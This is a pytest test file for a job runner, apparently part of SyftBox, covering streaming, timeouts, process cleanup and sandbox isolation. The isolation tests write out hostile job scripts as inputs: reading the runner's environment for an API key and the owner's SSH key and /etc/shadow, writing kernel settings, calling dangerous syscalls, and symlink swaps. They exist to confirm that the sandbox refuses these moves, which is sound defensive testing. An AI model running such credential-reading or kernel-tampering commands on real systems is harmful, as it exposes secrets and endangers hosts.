    script = """
    for i in $(seq 1 3000); do printf 'out-%05d-abcdefghijklmnopqrstuvwxyz\\n' $i; done &
    for i in $(seq 1 3000); do printf 'err-%05d-ABCDEFGHIJKLMNOPQRSTUVWXYZ\\n' $i >&2; done
    wait
    """
    make_job(runner, "mixed", script)
    runner.process_approved_jobs()
    lines = [l for l in capsys.readouterr().out.splitlines() if l.startswith(f"[{OWNER}][mixed] ")]
    pattern = re.compile(r"^\[do@test\.org\]\[mixed\] (out-\d{5}-[a-z]{26}|STDERR: err-\d{5}-[A-Z]{26})$")
    assert len(lines) == 6000
    assert all(pattern.match(l) for l in lines), [l for l in lines if not pattern.match(l)][:3]


@pytest.mark.slow
def test_a_million_lines_streamed(syftbox, tmp_path):
    job = make_job(syft_job.create_runner(syftbox, OWNER), "million", "seq 1 1000000\n")
    console = tmp_path / "console.txt"
    with open(console, "wb") as f:
        proc = start_runner_process(syftbox, "runner.process_approved_jobs()", stdout=f)
        assert proc.wait(timeout=120) == 0
    assert (job / "stdout.txt").read_bytes() == b"".join(b"%d\n" % i for i in range(1, 1000001))
    prefix = f"[{OWNER}][million] ".encode()
    with open(console, "rb") as f:
        shown = [line for line in f if line.startswith(prefix)]
    assert len(shown) == 1000000
    assert shown[0] == prefix + b"1\n" and shown[-1] == prefix + b"1000000\n"


# VmHWM is this process image's own peak; ru_maxrss on Linux also carries the peak of
# the process that forked it (here pytest), so it is only the fallback (macOS, bytes).
PEAK_MEMORY = """
import re, resource, sys
runner.process_approved_jobs(stream_output={stream})
try:
    peak_kb = int(re.search(r"VmHWM:\\s+(\\d+)", open("/proc/self/status").read()).group(1))
except OSError:
    peak_kb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // (1024 if sys.platform == "darwin" else 1)
print("PEAK_KB", peak_kb)
"""


@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.slow
def test_memory_stays_flat_for_200_mb_of_output(syftbox, tmp_path, stream):
    size = 200_000_000
    # Captured mode gets lines; streamed mode gets one endless line (no newline at all).
    produce = "yes 0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXY" if not stream else "tr '\\0' x < /dev/zero"
    job = make_job(syft_job.create_runner(syftbox, OWNER), "big", f"{produce} | head -c {size}\n")
    log = tmp_path / "console.txt"
    with open(log, "wb") as f:
        proc = start_runner_process(syftbox, PEAK_MEMORY.format(stream=stream), stdout=f)
        assert proc.wait(timeout=120) == 0
    assert (job / "stdout.txt").stat().st_size == size
    peak_kb = int(re.search(r"PEAK_KB (\d+)", log.read_text(errors="replace")).group(1))
    assert peak_kb < 80_000, f"peak memory {peak_kb} kB"  # the reference needed 627 MB


def escaping_job(tag: str) -> str:
    """A job that leaves processes behind every way it can: in the background, in a
    session of its own, without its environment, through a double fork, holding the
    pipes; each sleeps a number that names it."""
    return f"""
sleep 991.{tag}1 &
setsid sleep 991.{tag}2 &
env -i setsid sleep 991.{tag}3 &
( ( setsid sleep 991.{tag}4 & ) & )
setsid bash -c 'exec sleep 991.{tag}5' > /dev/null 2>&1 < /dev/null &
echo started
echo started-err >&2
sleep 991.{tag}6
"""


@pytest.mark.parametrize("isolation", ["none", pytest.param("sandbox", marks=needs_sandbox)])
@pytest.mark.parametrize("stream", [True, False])
@pytest.mark.slow
def test_a_timeout_stops_everything_the_job_made_whatever_it_did_to_leave(syftbox, owner, isolation, stream):
    tag = f"{int(stream)}{len(isolation)}{len(owner.kind)}"
    job = legacy_job(syftbox, "slow", escaping_job(tag))
    started = time.monotonic()
    flags = ["--isolation", isolation, "--timeout", "0.5", *([] if stream else ["--no-stream"])]
    try:
        result = owner.cli(syftbox, "once", *flags)
        assert time.monotonic() - started < 30  # a hang bound: the reference waited for the grandchild (300 s)
        assert result.returncode == 1 and "⏰ Job slow timed out after 0.5 seconds (return code -1)" in result.stdout
        assert (job / "returncode.txt").read_text() == "-1" and (job / "done").exists()
        assert (job / "stdout.txt").read_bytes() == b"started\n--- PROCESS TIMED OUT ---\n"
        assert (job / "stderr.txt").read_bytes() == b"started-err\n--- PROCESS TIMED OUT ---\n"
        wait_for(lambda: not processes_with(f"991.{tag}"), 10, "every process of the job to be gone")
        assert "No approved jobs to run" in owner.cli(syftbox, "once", *flags).stdout  # never re-run by itself
    finally:
        kill_marked(f"991.{tag}")


@pytest.mark.slow
def test_a_timed_out_shell_never_reports_its_child_terminated(syftbox):
    # Were the job's child signalled before its shell, the shell could see it die and
    # write "Terminated" into the log: 15 of 300 such jobs did before the group went first.
    runner = syft_job.create_runner(syftbox, OWNER, isolation="none", console=False, max_concurrent_jobs=8)
    jobs = [make_job(runner, f"j{i}", escaping_job(f"7{i:02}")) for i in range(40)]
    try:
        runner.process_approved_jobs(stream_output=False, timeout=0.3)
        assert [(job / "stderr.txt").read_bytes() for job in jobs] == [
            b"started-err\n--- PROCESS TIMED OUT ---\n"] * len(jobs)
    finally:
        kill_marked("991.7")


@pytest.mark.parametrize("isolation", ["none", pytest.param("sandbox", marks=needs_sandbox)])
@pytest.mark.slow
def test_nothing_a_finished_job_made_outlives_it(syftbox, owner, isolation):
    tag = f"{len(isolation)}{len(owner.kind)}"
    job = legacy_job(syftbox, "leaves", escaping_job(tag).replace(f"sleep 991.{tag}6", "echo done-main"))
    try:
        result = owner.cli(syftbox, "once", "--isolation", isolation)
        assert result.returncode == 0 and (job / "stdout.txt").read_text() == "started\ndone-main\n"
        wait_for(lambda: not processes_with(f"991.{tag}"), 10, "the leftovers to be gone")
    finally:
        kill_marked(f"991.{tag}")


@pytest.mark.slow
def test_timeout_escalates_to_kill_when_term_is_ignored(runner):
    job = make_job(runner, "stubborn", "trap '' TERM\nwhile true; do sleep 0.05; done\n")
    runner.process_approved_jobs(stream_output=False, timeout=0.5)
    assert (job / "returncode.txt").read_text() == "-1"
    assert "timed out" in runner.list_jobs()[0]["reason"]


@pytest.mark.slow
def test_timeout_from_environment_and_bad_value(runner, monkeypatch):
    job = make_job(runner, "sleepy", "sleep 300\n")
    monkeypatch.setenv("SYFT_DEFAULT_JOB_TIMEOUT_SECONDS", "soon")
    with pytest.raises(ConfigError, match="SYFT_DEFAULT_JOB_TIMEOUT_SECONDS.*'soon'"):
        runner.process_approved_jobs()
    assert not (job / "stdout.txt").exists()
    monkeypatch.setenv("SYFT_DEFAULT_JOB_TIMEOUT_SECONDS", "0.5")
    runner.process_approved_jobs()
    assert (job / "returncode.txt").read_text() == "-1"
    with pytest.raises(ConfigError, match="timeout"):
        runner.process_approved_jobs(timeout=-1)


def test_jobs_that_cannot_run_are_finished_with_a_reason(runner, capsys):
    no_script = make_job(runner, "no script", None)
    bad_config = make_job(runner, "bad config", "echo never", config="name: x\n  bad: indent\n")
    huge_config = make_job(runner, "huge config", "echo never", config="name: x\n" + "#" * 2_000_000 + "\n")
    binary_config = make_job(runner, "binary config", "echo never", config="")
    (binary_config / "config.yaml").write_bytes(b"name: \xff\n")
    fine = make_job(runner, "fine", "echo fine")
    runner.process_approved_jobs()
    out = capsys.readouterr().out
    assert "has no run.sh" in (no_script / "stderr.txt").read_text()
    assert "config.yaml, line 2" in (bad_config / "stderr.txt").read_text()
    assert "config.yaml: is larger than 1 MB; not read" in (huge_config / "stderr.txt").read_text()
    assert "config.yaml: is not UTF-8 text (byte 6 is b'\\xff')" in (binary_config / "stderr.txt").read_text()
    assert not (bad_config / "stdout.txt").exists()
    for job in (no_script, bad_config, huge_config, binary_config):
        assert (job / "done").exists() and (job / "returncode.txt").read_text() == "-1"
    assert "❌ job ds@test.org/no script has no run.sh" in out
    assert (fine / "stdout.txt").read_text() == "fine\n"
    assert runner.process_approved_jobs() == [] and capsys.readouterr().out == ""  # not retried every poll


def test_a_runner_side_error_finishes_the_job_and_the_others_still_run(plain_runner, tmp_path, monkeypatch, capsys):
    first = make_job(plain_runner, "first", "echo one")
    second = make_job(plain_runner, "second", "echo two")
    def cannot_start(*args, **kwargs):
        raise OSError(errno.EAGAIN, "no process can be made now")
    monkeypatch.setattr(syft_job.subprocess, "Popen", cannot_start)
    results = plain_runner.process_approved_jobs()
    out = capsys.readouterr().out
    for job in (first, second):
        assert (job / "done").exists() and "runner error" in (job / "stderr.txt").read_text()
    assert out.count("runner error in job") == 2 and "Processed 2 job(s): 0 succeeded, 2 failed" in out
    assert [r.return_code for r in results] == [-1, -1]


def test_planted_symlinks_in_the_job_folder_are_replaced_not_written_through(runner, tmp_path):
    victim = tmp_path / "owner-file.txt"
    victim.write_text("precious")
    job = make_job(runner, "sneaky", "echo output")
    for name in ("stdout.txt", "stderr.txt", "returncode.txt"):
        (job / name).symlink_to(victim)
    (job / "outputs").symlink_to(tmp_path)
    runner.process_approved_jobs()
    assert victim.read_text() == "precious"
    assert (job / "stdout.txt").read_text() == "output\n" and not (job / "stdout.txt").is_symlink()
    assert (job / "outputs").is_dir() and not (job / "outputs").is_symlink()


STOPPABLE_JOB = """
echo "run $(cat outputs/n 2>/dev/null)"
sleep 993.{tag} &
echo started
wait
"""


@pytest.mark.parametrize("signum", [signal.SIGINT, signal.SIGTERM])
@pytest.mark.slow
def test_ctrl_c_or_sigterm_stops_the_job_and_leaves_it_approved(syftbox, signum):
    runner = syft_job.create_runner(syftbox, OWNER)
    job = make_job(runner, "long", STOPPABLE_JOB.format(tag=signum))
    proc = start_runner_process(syftbox, "runner.run()")
    reader = LineReader(proc)
    try:
        reader.wait_for("🚀 Executing job: long")
        wait_for(lambda: processes_with(f"993.{signum}"), what="the job's child")
        proc.send_signal(signum)
        assert proc.wait(timeout=30) == 0
        reader.thread.join(10)
        assert "SyftJob Runner stopped" in reader.text and "Traceback" not in reader.text
        assert "🛑 Stopped ds@test.org/long: it runs again at the next start" in reader.text
        wait_for(lambda: not processes_with(f"993.{signum}"), 10, "the job to be stopped")
        assert (job / "approved").exists() and not (job / "done").exists()
        assert [r["status"] for r in runner.list_jobs()] == ["interrupted"]  # still approved, and said so
        assert not list(runner.settings.work_dir.rglob("copies/*"))  # nothing left copied
    finally:
        proc.kill()
        kill_marked(f"993.{signum}")
    (job / "run.sh").write_text("echo second run\n")
    runner.approve_job("long")  # (its run.sh changed, so the owner approves it again)
    sink = Sink()
    syft_job.create_runner(syftbox, OWNER, console=sink).process_approved_jobs(timeout=60)
    assert (job / "stdout.txt").read_text() == "second run\n"
    assert "🔁 Job ds@test.org/long runs again: interrupted, attempt 2 of 3" in sink.text


@pytest.mark.slow
def test_run_prints_the_banner_and_polls_until_stopped(syftbox):
    runner = syft_job.create_runner(syftbox, OWNER)
    make_job(runner, "waiting", "echo hi", approved=False)
    make_job(runner, "finished", "true", approved=True)
    (runner.job_dir / DS / "finished" / "done").touch()
    proc = start_runner_process(syftbox, "runner.run()")
    reader = LineReader(proc)
    try:
        reader.wait_for("Found 2 existing job(s)")
        late = make_job(runner, "late", "echo late-output", approved=True)
        reader.wait_for(f"[{OWNER}][late] late-output")
        wait_for(lambda: (late / "done").exists())
        proc.send_signal(signal.SIGTERM)
        assert proc.wait(timeout=30) == 0
        reader.thread.join(10)
    finally:
        proc.kill()
    isolation = "sandbox (bubblewrap, seccomp filter, no network)" if HAVE_BWRAP else "none"
    account = "a uid of their own, with the groups of nobody" if os.geteuid() == 0 else \
        f"you ({os.environ.get('USER') or os.getuid()})"
    unsandboxed = "" if HAVE_BWRAP else "⚠️ Jobs run without a sandbox (bubblewrap is not installed or cannot " \
        "create namespaces here (Debian/Ubuntu: apt install bubblewrap))\n"
    banner = (
        f"🚀 SyftJob Runner started: version: {syft_job.__version__}\n"
        f"👤 Monitoring jobs for: {OWNER}\n"
        f"📂 Job directory: {runner.job_dir}\n"
        "⏱️ Poll interval: 0.1 seconds\n"
        f"🛡️ Isolation: {isolation}; jobs run as {account}\n" + unsandboxed +
        f"🐍 Pythons for jobs: {syft_job._pythons_text(syft_job._owner_pythons(()))}\n"
        "⏹️ Press Ctrl+C to stop\n"
        + "=" * 50 + "\n"
        "📋 Found 2 existing job(s): 1 inbox, 0 approved, 0 running, 1 finished\n"
        f"- {DS}/waiting (waiting for review)\n"
    )
    assert reader.text.startswith(banner)
    assert "NEW JOB DETECTED: ds@test.org/waiting" not in reader.text  # reported in the banner


@pytest.mark.slow
def test_run_reports_an_empty_job_directory(syftbox):
    proc = start_runner_process(syftbox, "runner.run()")
    reader = LineReader(proc)
    try:
        reader.wait_for("📭 No existing jobs found")
        proc.send_signal(signal.SIGINT)
        assert proc.wait(timeout=30) == 0
    finally:
        proc.kill()


def test_run_refuses_a_bad_timeout_before_polling(runner, monkeypatch):
    monkeypatch.setenv("SYFT_DEFAULT_JOB_TIMEOUT_SECONDS", "-5")
    with pytest.raises(ConfigError, match="SYFT_DEFAULT_JOB_TIMEOUT_SECONDS"):
        runner.run()


# ---------------------------------------------------------------------------
# Isolation: attacks by an approved job, made for real (with the runner as root and as an ordinary user)
# ---------------------------------------------------------------------------


@pytest.mark.slow
def test_a_job_runs_what_was_approved_whatever_the_submitter_changes_after_the_copy(runner, syftbox):
    go = go_file(syftbox)
    job = make_job(runner, "swapped", f"echo started\n{WAIT_FOR_GO}cat data.txt\nbash step2.sh\n", approved=False)
    (job / "data.txt").write_text("approved data\n")
    (job / "step2.sh").write_text("echo approved step\n")
    runner.approve_job("swapped")
    target = syftbox.parent / "target"
    target.mkdir()
    (target / "run.sh").write_text("touch ran-the-target\n")
    (target / "outputs").mkdir()
    (target / "outputs" / "keep.txt").write_text("keep")
    done = threading.Event()
    worker = threading.Thread(target=lambda: (runner.process_approved_jobs(stream_output=False), done.set()))
    worker.start()
    try:
        wait_for(lambda: "started" in (job / "stdout.txt").read_text() if (job / "stdout.txt").exists() else False)
        (job / "data.txt").write_text("swapped data\n")  # the submitter, after the copy was made
        (job / "step2.sh").write_text("echo swapped step\n")
        moved = job.with_name("swapped-moved")
        job.rename(moved)
        job.symlink_to(target)  # and the job folder itself swapped for a link
        go.touch()
        worker.join(60)
        assert done.is_set()
    finally:
        go.touch()
        worker.join(60)
    assert (moved / "stdout.txt").read_text() == "started\napproved data\napproved step\n"
    assert not (target / "ran-the-target").exists() and (target / "outputs" / "keep.txt").read_text() == "keep"
    assert sorted(p.name for p in target.iterdir()) == ["outputs", "run.sh"]  # no logs written there


def test_the_digest_covers_every_file_caches_included(runner, syftbox, capsys):
    job = make_job(runner, "cached", "python3 -c 'import helper'\n", approved=False)
    (job / "helper.py").write_text("print('approved helper')\n")
    runner.approve_job("cached")
    (job / "__pycache__").mkdir()
    (job / "__pycache__" / "helper.cpython-311.pyc").write_bytes(b"planted bytecode")
    (job / ".venv").mkdir()
    (job / ".venv" / "evil").write_text("planted")
    strict = syft_job.create_runner(syftbox, OWNER, require_approval_digest=True)
    for r in (runner, strict):
        assert r.process_approved_jobs() == []
    out = capsys.readouterr().out
    assert "added: .venv/evil, __pycache__/helper.cpython-311.pyc" in out
    assert not (job / "stdout.txt").exists()
    assert runner.list_jobs()[0]["status"] == "changed"


@pytest.mark.slow
def test_a_claim_planted_by_the_submitter_cannot_make_a_job_run_twice(syftbox):
    runner = syft_job.create_runner(syftbox, OWNER, isolation="none")
    go = go_file(syftbox)
    counter = syftbox.parent / "runs.log"
    counter.touch()
    counter.chmod(0o666)  # a second run, with another uid, could append too
    job = make_job(runner, "once only", f"echo run >> {counter}\n{WAIT_FOR_GO}")
    proc = start_runner_process(syftbox, "runner.process_approved_jobs()", settings="isolation='none'")
    try:
        wait_for(lambda: counter.read_text(), what="the first run")
        dead = subprocess.Popen(["true"])
        dead.wait()
        (job / ".syft_job_claim").write_text(json.dumps(  # as the old runner wrote it, naming a dead runner
            {"host": socket.gethostname(), "pid": dead.pid, "attempt": 1, "pgid": os.getpid()}) + "\n")
        second = cli("once", "--isolation", "none", *site_args(syftbox))
        assert "No approved jobs to run" in second.stdout, second.stdout
        go.touch()
        assert proc.wait(timeout=60) == 0
    finally:
        go.touch()
        proc.kill()
    assert counter.read_text() == "run\n"


@pytest.mark.slow
def test_a_job_that_stops_its_runner_cannot_stretch_its_timeout_or_turn_failure_into_success(syftbox, owner):
    job = legacy_job(syftbox, "freezer", "kill -STOP $PPID\nsleep 3\nkill -CONT $PPID\nexit 0\n")
    started = time.monotonic()
    result = owner.cli(syftbox, "once", "--isolation", "none", "--no-stream", "--timeout", "1")
    assert result.returncode == 1 and "timed out" in result.stdout, result.stdout
    assert (job / "returncode.txt").read_text() == "-1" and time.monotonic() - started >= 1


@pytest.mark.parametrize("isolation", ["none", pytest.param("sandbox", marks=needs_sandbox)])
@pytest.mark.slow
def test_a_job_cannot_read_the_runner_or_write_into_its_console(syftbox, owner, isolation):
    job = legacy_job(syftbox, "spy", """
tr '\\0' '\\n' < /proc/$PPID/environ | grep OPENAI || echo "environ: refused"
echo "forged line" > /proc/$PPID/fd/1 || echo "fd: refused"
grep -E '^Cap(Prm|Eff|Bnd|Amb)' /proc/self/status
""")
    result = owner.cli(syftbox, "once", "--isolation", isolation, "--no-stream", OPENAI_API_KEY="sk-owner-secret")
    out, console = (job / "stdout.txt").read_text(), result.stdout
    assert "sk-owner-secret" not in out + console
    assert "forged line" not in console  # (in the sandbox, $PPID is its own init: the line went to its own log)
    assert "fd: refused" in out or (isolation == "sandbox" and "forged line" in out)
    caps = dict(line.split(":\t") for line in out.splitlines() if line.startswith("Cap"))
    assert caps["CapEff"] == caps["CapPrm"] == caps["CapAmb"] == "0000000000000000", caps  # even for root
    if owner.kind == "root":
        assert caps["CapBnd"] == "0000000000000000"


@needs_sandbox
@pytest.mark.slow
def test_in_the_sandbox_a_job_sees_only_its_own_processes_and_what_it_may_read(syftbox, tmp_path, owner):
    (owner.home / ".ssh").mkdir()
    (owner.home / ".ssh" / "id_ed25519").write_text("owner key")
    dataset = tmp_path / "datasets" / "census.csv"
    dataset.parent.mkdir()
    dataset.write_text("age\n41\n")
    hidden = tmp_path / "not-allowed.txt"
    hidden.write_text("hidden")
    (syftbox / OWNER / "private").mkdir(exist_ok=True)
    (syftbox / OWNER / "private" / "data.csv").write_text("private,data\n")
    other = legacy_job(syftbox, "other", "echo other-results > outputs/r.txt\n", submitter=OTHER)
    owner.cli(syftbox, "once")
    job_dir = syftbox / OWNER / "app_data" / "job"
    job = legacy_job(syftbox, "nosy", f"""
ls /proc | grep -c '^[0-9]' | sed 's/^/processes: /'
cat "$SYFTBOX_FOLDER/$SYFTBOX_EMAIL/private/data.csv"
cat {dataset}
cat {hidden} 2>/dev/null || echo "outside: refused"
cat {owner.home}/.ssh/id_ed25519 2>/dev/null || echo "home: refused"
cat {other}/stdout.txt {other}/outputs/r.txt 2>/dev/null || echo "other jobs: refused"
cat {owner.home}/state/*/*/* 2>/dev/null || echo "runner state: refused"
touch "$SYFTBOX_FOLDER/$SYFTBOX_EMAIL/private/planted" 2>/dev/null || echo "syftbox: read-only"
touch {other}/approved 2>/dev/null || echo "sibling: refused"
printf '%05000d' 0 > {job_dir / DS / "nosy" / "stdout.txt"} 2>/dev/null || echo "own log: refused"
touch /usr/planted 2>/dev/null || echo "system: read-only"
touch /tmp/mine && echo "tmp: writable"
""")
    owner.cli(syftbox, "once", "--no-stream", "--allow-read", str(dataset.parent))
    out = (job / "stdout.txt").read_text()
    assert int(re.search(r"processes: (\d+)", out).group(1)) < 10  # not the host's hundreds
    for expected in ("private,data", "age\n41", "outside: refused", "home: refused", "other jobs: refused",
                     "runner state: refused", "syftbox: read-only", "sibling: refused", "own log: refused",
                     "system: read-only", "tmp: writable"):
        assert expected in out, (expected, out)
    assert "owner key" not in out and "hidden" not in out and "other-results" not in out
    assert not (syftbox / OWNER / "private" / "planted").exists() and not Path("/usr/planted").exists()


@needs_sandbox
@pytest.mark.slow
def test_a_sandboxed_job_reaches_the_network_only_when_the_owner_says_so(syftbox, owner):
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    port = server.getsockname()[1]
    script = f"(exec 3<>/dev/tcp/127.0.0.1/{port}) 2>/dev/null && echo reached || echo unreachable\n"
    try:
        for flags, expected in ((["--network"], "reached"), ([], "unreachable"), (["--no-network"], "unreachable")):
            job = legacy_job(syftbox, f"net {len(flags)}{flags[:1]}", script)
            owner.cli(syftbox, "once", "--no-stream", *flags)
            assert (job / "stdout.txt").read_text() == expected + "\n"
    finally:
        server.close()


def test_outputs_are_published_without_permission_files_links_or_devices(runner, syftbox, tmp_path):
    secret = tmp_path / "owner-secret.txt"
    secret.write_text("secret")
    job = make_job(runner, "publisher", f"""
mkdir -p outputs/sub
echo result > outputs/sub/r.txt
printf 'rules:\\n- pattern: "**"\\n  access: {{read: ["*"]}}\\n' > outputs/syft.pub.yaml
cp outputs/syft.pub.yaml outputs/sub/syft.pub.yaml
ln -s {secret} outputs/link
mkfifo outputs/fifo
""")
    runner.process_approved_jobs(stream_output=False, share_outputs_with_submitter=True)
    published = sorted(str(p.relative_to(job / "outputs")) for p in (job / "outputs").rglob("*"))
    assert published == ["sub", "sub/r.txt"]
    notes = (job / "stderr.txt").read_text()
    assert "outputs/link: symlink; not published" in notes and "outputs/fifo: not a regular file" in notes
    assert not can(syftbox.resolve(), OTHER, job / "outputs" / "sub" / "r.txt", "read")


@pytest.mark.slow
def test_sandbox_is_refused_where_none_can_be_made(syftbox, tmp_path, monkeypatch):
    monkeypatch.setenv("PATH", str(tmp_path))  # no bwrap on it
    syft_job._bwrap.cache_clear()
    try:
        with pytest.raises(ConfigError, match="no sandbox can be made here.*apt install bubblewrap"):
            syft_job.create_runner(syftbox, OWNER, isolation="sandbox")
        assert syft_job.create_runner(syftbox, OWNER).settings.isolation == "none"  # auto: the always-on protections
        result = subprocess.run([sys.executable, "-m", "syft_job", "once", "--isolation", "sandbox", *site_args(syftbox)],
                                env=cli_env(PATH=str(tmp_path)), capture_output=True, text=True, timeout=60)
        assert result.returncode == 2 and len(result.stderr.strip().splitlines()) == 1
        assert "no sandbox can be made here" in result.stderr
    finally:
        monkeypatch.undo()
        syft_job._bwrap.cache_clear()


@pytest.mark.slow
def test_the_banner_and_list_say_which_isolation_is_in_force(syftbox):
    runner = syft_job.create_runner(syftbox, OWNER, isolation="none")
    make_job(runner, "ran", "true\n")
    make_job(runner, "waits", "true\n", approved=False)
    runner.process_approved_jobs()
    rows = {r["name"]: r for r in json.loads(cli("list", "--json", *site_args(syftbox)).stdout)}
    assert rows["ran"]["isolation"] == "none"
    assert rows["waits"]["isolation"] == ("sandbox" if HAVE_BWRAP else "none")


@needs_sandbox
@pytest.mark.slow
def test_a_killed_runner_leaves_no_sandboxed_process_behind(syftbox):
    make_job(syft_job.create_runner(syftbox, OWNER), "orphaned", escaping_job("8"))
    proc = start_runner_process(syftbox, "runner.process_approved_jobs()")
    try:
        wait_for(lambda: len(processes_with("991.8")) >= 6, what="the job's processes")
        proc.kill()
        proc.wait(10)
        wait_for(lambda: not processes_with("991.8"), 10, "the sandbox to go with its runner")
    finally:
        proc.kill()
        kill_marked("991.8")
    assert [r["status"] for r in syft_job.create_runner(syftbox, OWNER).list_jobs()] == ["interrupted"]


@pytest.mark.slow
def test_after_a_killed_runner_the_next_one_stops_what_its_job_left_and_runs_it_again(syftbox, tmp_path):
    counter = tmp_path / "count"
    script = f"""
n=$(( $(cat {counter} 2>/dev/null || echo 0) + 1 ))
echo $n > {counter}
echo "run $n"
echo $n > outputs/run-$n.txt
if [ $n -eq 1 ]; then setsid sleep 992.1 & sleep 992.2; fi
echo finished
"""
    runner = syft_job.create_runner(syftbox, OWNER, isolation="none")
    job = make_job(runner, "crashy", script)
    proc = start_runner_process(syftbox, "runner.run()", settings="isolation='none'")
    try:
        wait_for(lambda: len(processes_with("992.")) == 2, what="the first run's processes")
        assert [r["status"] for r in runner.list_jobs()] == ["running"]
        proc.kill()
        proc.wait(10)
    finally:
        proc.kill()
    assert len(processes_with("992.")) == 2, "the job outlived the killed runner (no sandbox)"
    assert [r["status"] for r in runner.list_jobs()] == ["interrupted"]
    restarted = cli("once", "--isolation", "none", *site_args(syftbox))
    assert restarted.returncode == 0, restarted.stdout + restarted.stderr
    assert re.search(rf"🧹 Stopping \d process\(es\) left running by the interrupted run of {DS}/crashy", restarted.stdout)
    assert "attempt 2 of 3" in restarted.stdout
    wait_for(lambda: not processes_with("992."), 10, "the leftovers to be stopped")
    assert (job / "stdout.txt").read_text() == "run 2\nfinished\n"
    assert sorted(p.name for p in (job / "outputs").iterdir()) == ["run-2.txt"]
    assert (job / "returncode.txt").read_text() == "0" and (job / "done").exists()


def test_a_job_interrupted_three_times_is_finished_with_a_reason(runner, capsys):
    again = make_job(runner, "again", "echo ran\n")
    doomed = make_job(runner, "doomed", "echo never\n")
    dead = subprocess.Popen(["true"])
    dead.wait()
    for job, attempt in ((again, 2), (doomed, 3)):
        claim = runner._site.path("jobs", next(j for j in runner._jobs() if j.folder == str(job)), create=True)
        Path(claim).write_text(json.dumps({"host": socket.gethostname(), "pid": dead.pid, "attempt": attempt}) + "\n")
    runner.process_approved_jobs()
    out = capsys.readouterr().out
    assert "ds@test.org/again runs again: interrupted, attempt 3 of 3" in out
    assert (again / "stdout.txt").read_text() == "ran\n"
    assert (doomed / "returncode.txt").read_text() == "-1"
    assert "was interrupted 3 times (the runner was killed or the machine stopped while it ran); " \
           "it is not run again" in (doomed / "stderr.txt").read_text()


def test_a_live_runners_claim_is_left_alone(runner, capsys):
    job = make_job(runner, "claimed", "echo no\n")
    claim = runner._site.path("jobs", runner._jobs()[0], create=True)
    Path(claim).write_text(json.dumps({"host": socket.gethostname(), "pid": os.getppid(), "attempt": 1}) + "\n")
    assert runner.process_approved_jobs() == [] and not (job / "stdout.txt").exists()
    assert [r["status"] for r in runner.list_jobs()] == ["running"]
    with pytest.raises(syft_job.SyftJobError, match="stop it before a reset"):
        runner.reset_all_jobs()


# ---------------------------------------------------------------------------
# No job holds the owner's powers: each attack made with the runner as root AND as an
# ordinary user (uid 65534 through setpriv, when the tests run as root)
# ---------------------------------------------------------------------------

KERNEL_ATTACK = """
id -u
grep -E '^Cap(Eff|Prm)' /proc/self/status
cat /proc/sys/kernel/core_pattern > /tmp/pattern  # written back as it is: harmless if it ever worked
cat /tmp/pattern > /proc/sys/kernel/core_pattern 2>/dev/null && echo "WROTE core_pattern"
echo 1 > /proc/sys/vm/drop_caches 2>/dev/null && echo "WROTE drop_caches"
head -c 1 /etc/shadow >/dev/null 2>&1 && echo "READ shadow"
setsid sh -c 'id -u > /tmp/setsid-uid; cat /tmp/setsid-uid' 2>/dev/null
for p in /proc/[0-9]*; do [ $p = /proc/1 ] || awk '/^Uid:/ {print "uid-of-a-process", $2}' $p/status; done | sort -u
awk '/^CapEff:/ {e=$2} /^CapPrm:/ {p=$2} END {print "init-caps", e, p}' /proc/1/status
"""


@pytest.mark.parametrize("isolation", ["none", pytest.param("sandbox", marks=needs_sandbox)])
@pytest.mark.slow
def test_no_process_of_a_job_is_root_or_reaches_the_kernels_settings(syftbox, owner, isolation):
    job = legacy_job(syftbox, "kernel", KERNEL_ATTACK)
    before = Path("/proc/sys/kernel/core_pattern").read_text()
    result = owner.cli(syftbox, "once", "--isolation", isolation)
    out = (job / "stdout.txt").read_text()
    assert result.returncode == 0, result.stdout + result.stderr
    lines = out.splitlines()
    assert owner.runs_jobs_as(int(lines[0])) and lines[0] != "0", out
    assert "CapEff:\t0000000000000000" in out and "CapPrm:\t0000000000000000" in out
    assert "WROTE" not in out and "READ shadow" not in out, out
    assert Path("/proc/sys/kernel/core_pattern").read_text() == before
    if isolation == "sandbox":  # every process it can see runs as its account, but bubblewrap's own init
        assert {line for line in lines if line.startswith("uid-of")} == {f"uid-of-a-process {lines[0]}"}, out
        assert "init-caps 0000000000000000 0000000000000000" in out, out  # which runs as root without capabilities
    if os.geteuid() == 0:
        assert "without a sandbox" in result.stdout if isolation == "none" else "without a sandbox" not in result.stdout


SECCOMP_ATTACK = r"""
python3 - <<'EOF'
import ctypes, errno, os
libc = ctypes.CDLL(None, use_errno=True)
calls = {"x86_64": dict(ptrace=101, process_vm_readv=310, process_vm_writev=311, keyctl=250, add_key=248,
                        request_key=249, bpf=321, perf_event_open=298, userfaultfd=323, io_uring_setup=425,
                        kexec_load=246, init_module=175, finit_module=313, mount=165),
         "aarch64": dict(ptrace=117, process_vm_readv=270, process_vm_writev=271, keyctl=219, add_key=217,
                         request_key=218, bpf=280, perf_event_open=241, userfaultfd=282, io_uring_setup=425,
                         kexec_load=104, init_module=105, finit_module=273, mount=40)}[os.uname().machine]
for name, number in calls.items():
    result = libc.syscall(number, -1, -1, -1, -1, -1, -1)
    print(name, result, errno.errorcode.get(ctypes.get_errno()))
print("unshare-user", libc.unshare(0x10000000), errno.errorcode.get(ctypes.get_errno()))
EOF
unshare -U true 2>/dev/null && echo "made a user namespace"
echo 1 > /proc/sysrq-trigger 2>/dev/null && echo "WROTE sysrq"
cat /proc/keys /proc/timer_list 2>/dev/null | head -c 1 | grep -q . && echo "READ a hidden /proc file"
ls /sys 2>/dev/null | head -1 | grep -q . && echo "SEES /sys"
touch /proc/acpi/x 2>/dev/null && echo "WROTE /proc/acpi"
echo end
"""


@needs_sandbox
@pytest.mark.skipif(os.uname().machine not in ("x86_64", "aarch64"), reason="the seccomp filter is for x86_64 and "
                                                                            "aarch64 only")
@pytest.mark.slow
def test_in_the_sandbox_the_kernels_dangerous_calls_and_files_are_closed(syftbox, owner):
    job = legacy_job(syftbox, "syscalls", SECCOMP_ATTACK.replace("python3", JOB_PYTHON))
    result = owner.cli(syftbox, "once", "--isolation", "sandbox")
    out = (job / "stdout.txt").read_text()
    assert result.returncode == 0 and out.endswith("end\n"), result.stdout + (job / "stderr.txt").read_text()
    verdicts = dict(line.split(" ", 1) for line in out.splitlines() if line != "end")
